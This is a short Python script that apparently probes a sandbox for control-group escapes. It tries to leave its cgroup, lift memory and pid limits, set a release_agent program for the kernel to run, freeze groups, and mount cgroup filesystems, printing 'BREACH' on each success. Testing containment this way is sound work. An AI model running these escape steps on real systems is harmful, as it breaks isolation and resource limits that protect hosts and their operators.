# Leaves the control group, or has the kernel run a program when one is empty.
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
places = {"/sys/fs/cgroup", "/sys/fs/cgroup/unified", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/pids", "/sys/fs/cgroup/cpu"}
for line in open("/proc/self/cgroup") if os.access("/proc/self/cgroup", os.R_OK) else ():
    number, names, path = line.strip().split(":", 2)
    for root in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified", "/sys/fs/cgroup/" + names):
        places.update((root + path, os.path.dirname(root + path)))
for place in sorted(places):
    for what, make in (
        ("group", lambda: os.mkdir(place + "/hone-attack")),
        ("leave", lambda: os.write(os.open(place + "/cgroup.procs", os.O_WRONLY), b"0")),
        ("limit", lambda: os.write(os.open(place + "/memory.limit_in_bytes", os.O_WRONLY), b"-1")),
        ("limit", lambda: os.write(os.open(place + "/memory.max", os.O_WRONLY), b"max")),
        ("limit", lambda: os.write(os.open(place + "/pids.max", os.O_WRONLY), b"max")),
        ("program", lambda: os.write(os.open(place + "/release_agent", os.O_WRONLY), b"/box/attack.py")),
        ("freeze", lambda: os.write(os.open(place + "/cgroup.freeze", os.O_WRONLY), b"1")),
    ):
        try:
            make()
            print("BREACH", what, place, flush=True)
        except OSError:
            pass
for kind in (b"cgroup", b"cgroup2"):
    if libc.mount(b"none", os.environ["HOME"].encode(), kind, 0, None) == 0:
        print("BREACH mount", kind, flush=True)
print("tried")
